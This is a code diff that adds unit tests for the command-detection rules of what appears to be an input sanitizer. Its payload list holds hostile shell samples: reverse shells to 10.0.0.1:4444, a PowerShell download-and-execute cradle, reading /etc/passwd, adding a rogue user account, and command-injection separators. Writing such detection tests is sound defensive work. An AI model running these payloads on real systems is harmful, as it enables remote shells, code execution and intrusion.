@@ -8,7 +8,7 @@ import { BOOKING_BENIGN } from "./fixtures/booking-benign.js";
 import { SCRIPT_GATE_PAIRS } from "./html.js";
 import { compileInspect, inspectRules, inspectWith } from "./inspect.js";
 import { cannotMatch, ruleKeywords } from "./prefilter.js";
-import { CODE_GATES, type Location } from "./rules.js";
+import { CODE_GATES, COMMAND_GATE_PAIRS, type Location, mayStartWithProgram, RULE_WORD_SETS } from "./rules.js";
 
 const srcDir = fileURLToPath(new URL(".", import.meta.url));
 const corpusDir = process.env.SANITIZER_CORPUS ?? join(srcDir, "../../../../shared/corpus");
@@ -253,4 +253,68 @@ describe("the script rules' gates", () => {
       ).toBe(true);
     }
   });
+});
+
+describe("the command rules' gates", () => {
+  const payloads = [
+    "ls -la /tmp",
+    "/bin/cat /etc/passwd",
+    "  whoami",
+    "\\ls -la",
+    "sudo whoami",
+    "time ncat -e /bin/sh 10.0.0.1 4444",
+    "which perl",
+    "pip install evil",
+    "pip3.11 install evil",
+    "sudo apt-get install nmap",
+    "x; net user hacker p /add",
+    "reg query HKLM\\Software",
+    "a $(( 1+1 ))",
+    "cat <(ls)",
+    "bash -i >& /dev/tcp/10.0.0.1/4444",
+    "alias ls=rm",
+    "& if exist c:\\x echo y",
+    "for /f %i in (x) do y",
+    "powershell IEX (New-Object Net.WebClient).DownloadString('http://x')",
+    "; iwr http://x",
+    ";.shell id",
+    '<!--#exec cmd="ls" -->',
+    "%COMSPEC% /c dir",
+    "cmd /c dir",
+    "system('id')",
+    "x; /usr/bin/id",
+    "ftp.exe -s:x",
+    "ftp_exe -s:x",
+    "update-rc.d x defaults",
+    "update-rc d -f x",
+    "sc exe -x",
+  ];
+  // Every plain program name opening a command line, as the start-anchored regexes see them.
+  const names = [...RULE_WORD_SETS.flatMap((set) => [...set])].flatMap((name) => [
+    `${name} -la`,
+    `  ${name} /etc/passwd`,
+    `${name.toUpperCase()} 5`,
+    name,
+  ]);
+  const texts = [...payloads, ...names, ...corpus(), ...BOOKING_BENIGN].flatMap((text) =>
+    variantsOf(text).map((variant) => variant.text),
+  );
+
+  it("never hide a string their rule matches, on payloads, program names and the corpus", () => {
+    const missed: string[] = [];
+    for (const text of texts) {
+      for (const [gate, rule] of COMMAND_GATE_PAIRS) {
+        if (rule.test(text) && !gate(text)) missed.push(`${rule.source.slice(0, 20)}… ${JSON.stringify(text)}`);
+      }
+    }
+    expect(missed).toEqual([]);
+    for (const [, rule] of COMMAND_GATE_PAIRS) expect(payloads.some((text) => rule.test(text))).toBe(true);
+  });
+
+  it.each(["Skin fade, #2 on the sides; I'll be 5 min late. Select whoever is free <3", "O'Brien & Sons"])(
+    "let %j skip the start-anchored rules",
+    (text) => {
+      expect(mayStartWithProgram(text)).toBe(false);
+    },
+  );
 });
